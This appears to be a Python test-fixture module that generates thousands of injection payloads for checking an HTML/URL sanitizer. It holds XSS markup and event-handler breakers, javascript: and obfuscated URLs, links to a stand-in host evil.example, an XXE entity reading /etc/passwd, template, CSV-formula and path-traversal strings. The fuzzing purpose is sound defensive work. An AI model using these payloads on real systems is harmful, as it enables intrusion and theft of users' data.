"""Texts and addresses that try to become something else: markup, scripts, attributes, foreign links, other formats.

Whatever runs calls `hit()`. Foreign addresses lead to evil.example, which no page may ever point to; addresses that a
careful program may accept lead to good.example."""

import functools
import itertools
import random
import sys
import unicodedata

HIT = "hit()"

MARKUP = """<script>hit()</script>|<script src=//evil.example/x.js></script>|<script type=module>hit()</script>|
<img src=x onerror=hit()>|<img/src=x/onerror=hit()>|<img src=//evil.example/x.png>|<svg onload=hit()>|<svg/onload=hit()//|
<svg><script>hit()</script></svg>|<svg><animate onbegin=hit() attributeName=x dur=1s>|<math><mtext><img src=x onerror=hit()>|
<math href=javascript:hit()>x</math>|<body onload=hit()>|<html onclick=hit()>|<iframe srcdoc="<script>parent.hit()</script>">|
<iframe src=javascript:parent.hit()>|<object data=//evil.example/x>|<embed src=//evil.example/x>|<base href=//evil.example/>|
<link rel=stylesheet href=//evil.example/x.css>|<meta http-equiv=refresh content="0;url=//evil.example/">|
<style>@import '//evil.example/x.css';</style>|<form action=//evil.example/><button>x|<input autofocus onfocus=hit()>|
<select autofocus onfocus=hit()>|<textarea autofocus onfocus=hit()>|<details open ontoggle=hit()>|<video src=x onerror=hit()>|
<audio src=x onerror=hit()>|<video><source onerror=hit()></video>|<a href=javascript:hit()>x</a>|<a href=//evil.example/>x</a>|
<a href="&#106;avascript:hit()">x</a>|<area href=//evil.example/>|<map name=x>|<template><script>hit()</script></template>|
<noscript><p title="</noscript><img src=x onerror=hit()>">|<xmp><script>hit()</script></xmp>|<plaintext>|<listing>|<dialog open>|
<marquee onstart=hit()>|<portal src=//evil.example/>|<frameset onload=hit()>|<isindex action=//evil.example/>|<keygen autofocus>|
</title><script>hit()</script>|</script><script>hit()</script>|</style><script>hit()</script>|</textarea><script>hit()</script>|
</noscript><script>hit()</script>|</template><script>hit()</script>|</svg><script>hit()</script>|</math><script>hit()</script>|
</main></body></html><script>hit()</script>|</h1><h1>two|</li></ul><script>hit()</script>|</dd></dl><img src=x onerror=hit()>|
<!--|-->|--!><script>hit()</script>|<!--><script>hit()</script>|<!--<script>|<!-- --><script>hit()</script>|<![CDATA[|]]>|
]]><script>hit()</script>|<?xml version="1.0"?>|<?php echo 1 ?>|<!DOCTYPE html>|<!ENTITY x SYSTEM "file:///etc/passwd">&x;|
<%= 7*7 %>|{{7*7}}|{{ site }}|{% raw %}|{% include 'base.html' %}|{# x #}|${hit()}|#{hit()}|`${hit()}`|<x-element>|<x onclick=hit()>|
&lt;script&gt;hit()&lt;/script&gt;|&#60;script&#62;hit()&#60;/script&#62;|&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;|&amp;lt;b&amp;gt;|
&quot;&gt;&lt;img src=x onerror=hit()&gt;|%3Cscript%3Ehit()%3C/script%3E|\\x3cscript\\x3ehit()\\x3c/script\\x3e|\\u003cscript\\u003ehit()|
+ADw-script+AD4-hit()+ADw-/script+AD4-|<scr<script>ipt>hit()</script>|<<script>hit()//<</script>|<script/x>hit()</script>|
<SCRIPT>hit()</SCRIPT>|<ScRiPt>hit()</sCrIpT>|< script>hit()</ script>|<script\t>hit()</script>|<script\n>hit()</script>|
<script\f>hit()</script>|<a\u00a0href=x>|＜script＞hit()＜/script＞|‹script›|<\u0000script>hit()</script>|<scr\u0000ipt>hit()</script>|
javascript:hit()|data:text/html,<script>hit()</script>|vbscript:hit()|//evil.example/|https://evil.example/|mailto:a@evil.example|
[x](javascript:hit())|![x](javascript:hit())|[x](//evil.example/)|![x](//evil.example/x.png)|<javascript:hit()>|[x]: javascript:hit()|
[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)|[x](<javascript:hit()>)|[x](\\//evil.example)|[x](java&#10;script:hit())|
![x"onerror="hit()](x)|[x](x "y\\" onclick=\\"hit()")|[a](vbscript:hit())|[a](JaVaScRiPt:hit())|[a](&#106;avascript:hit())|```html\\n<script>|
BEGIN:VEVENT|END:VCALENDAR|x\r\nBEGIN:VEVENT\r\nSUMMARY:evil|x\nATTACH:https://evil.example/|x\r\nX-A:b|\\|\\n|;|,|a;b,c\\d|DTSTART:1|
=HYPERLINK("//evil.example")|=cmd|@SUM(1)|-1+1|TY  - BOOK|@book{x,|null|true|NaN|0|[]|{}|"|'|`|<|>|&|""|''|<>|&&|..|../../etc/passwd|
/|\\\\evil.example\\x|C:\\x|CON|NUL|.|-|--|---|#|# x|* x|> x|1. x|\u2028hit()|\u2029hit()|\ufeff|\u202eevil\u202c|\u2066x|\u200d|\u200b|
\u0000|\u0001\u0008\u000b\u000c\u001f|\u007f\u0080\u009f|\ufffe\uffff|\U0001fffe|\U0010ffff|e\u0301é|ﬀ|İı|ß|臺|👩‍👩‍👧‍👦|🏴󠁧󠁢󠁥󠁮󠁧󠁿"""

HANDLERS = """onclick onload onerror onfocus onfocusin onblur onmouseover onmouseenter onpointerover onpointerenter onpointerrawupdate
onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle oninput onchange oninvalid onscroll onscrollend onwheel
oncopy oncut onpaste onkeydown onkeyup ondrag ondrop onresize onhashchange onpageshow onpopstate onbeforeunload onmessage onsecuritypolicyviolation
oncontentvisibilityautostatechange onbeforematch onformdata onslotchange onauxclick""".split()

SCHEMES = """javascript JavaScript JAVASCRIPT vbscript data blob file filesystem intent ftp ws wss about view-source chrome
resource jar mhtml livescript mocha x-javascript ms-its res gopher news irc magnet market sms facetime steam vscode zoommtg
android-app ios-app web+x tel-x mailto-x httpx xhttps h""".split()


def alternatives(text):
  return [each for each in text.replace("|\n", "|").replace("\\n<script>", "\n<script>").split("|") if each]


def hiding_scalars(number):
  """Scalars that join a delimiter before them into one character, from all over Unicode, in a fixed order."""
  found = [
    chr(code) for code in itertools.chain(range(0x20000), range(0xE0000, 0xE1000))
    if unicodedata.category(chr(code)) in ("Mn", "Mc", "Me") or code in (0x200C, 0x200D, 0xFF9E, 0x1F3FB, 0x1F3FF)
    or 0xE0020 <= code <= 0xE007F]
  return random.Random(4).sample(found, number)


@functools.cache
def text_payloads():
  breakers = [
    f'{quote}{gap}{handler}={quote}{HIT}{quote} x={quote}'
    for handler, (quote, gap) in zip(HANDLERS * 3, itertools.cycle([('"', " "), ("'", "/"), ('"', "\n"), ("'", " autofocus "), ('">', "<x ")]))]
  hidden = [
    form.replace("~", mark)
    for mark, form in zip(hiding_scalars(240), itertools.cycle([
      '"~ autofocus onfocus=hit() x="~', "'~ onmouseover=hit() x='~", "<~img src=x onerror=hit()>", '">~<script>hit()</script>',
      "</script~><script>hit()</script~>", "&~lt;script&~gt;hit()", "<script~>hit()</script>", "javascript~:hit()"]))]
  long = ["ж" * 5000, "<b>" * 800, '"' * 3000, "&" * 3000, "a" * 20000, "<!--" * 700, "👩‍👩‍👧‍👦" * 300]
  found = [each if visible(each) else f"a{each}b" for each in alternatives(MARKUP)] + breakers + hidden + long
  return list(dict.fromkeys(found))


def visible(text):
  """Whether anything of a text is left when blanks and controls are taken away; without that there is no text."""
  return any(unicodedata.category(each)[0] not in "ZC" for each in text)


@functools.cache
def url_payloads():
  script = [scheme + rest for scheme in SCHEMES for rest in (":hit()", "://evil.example/%0ahit()", ":alert(1)//")]
  blanks = ["\t", "\n", "\r", " ", "\u0000", "\u0001", "\u000b", "\u001f", "\u00a0", "\u2028", "\ufeff", "\u200b"]
  split = [f"java{blank}script:hit()" for blank in blanks] + [f"{blank}javascript:hit()" for blank in blanks] + [
    f"javascript{blank}:hit()" for blank in blanks] + [f"/{blank}/evil.example/" for blank in blanks] + [
    f"{blank}//evil.example/" for blank in blanks] + [f"https:{blank}//evil.example/" for blank in blanks if blank not in "\t\n\r"]
  coded = [
    "&#106;avascript:hit()", "&#x6a;avascript:hit()", "%6aavascript:hit()", "\\u006aavascript:hit()", "jav&#x09;ascript:hit()",
    "javascript&colon;hit()", "&Tab;javascript:hit()", "javascript:%68it()", "javascript://x%0ahit()", "ｊavascript:hit()"]
  hosts = [
    "//evil.example/", "///evil.example/", "////evil.example", "\\\\evil.example\\", "/\\evil.example/", "\\/evil.example",
    "https:evil.example", "https:/evil.example", "https:///evil.example", "https:\\\\evil.example", "http:evil.example",
    "HTTPS:evil.example", "https://good.example\\@evil.example/", "https://good.example/\\..\\", "https://", "http://?", "https://#",
    "//evil.example:80", "/\t/evil.example", "/\n/evil.example", "//evil%2eexample/", "//evil。example/", "/%5cevil.example/"]
  quoted = [f"https://good.example/{each}" for each in text_payloads() if len(each) < 400 and "evil" not in each]
  relative = [f"images/{each}" for each in alternatives(MARKUP)[:80] if "evil" not in each]
  return list(dict.fromkeys(script + split + coded + hosts + quoted + relative))


if __name__ == "__main__":
  print(len(text_payloads()), "texts,", len(url_payloads()), "addresses", file=sys.stdout)
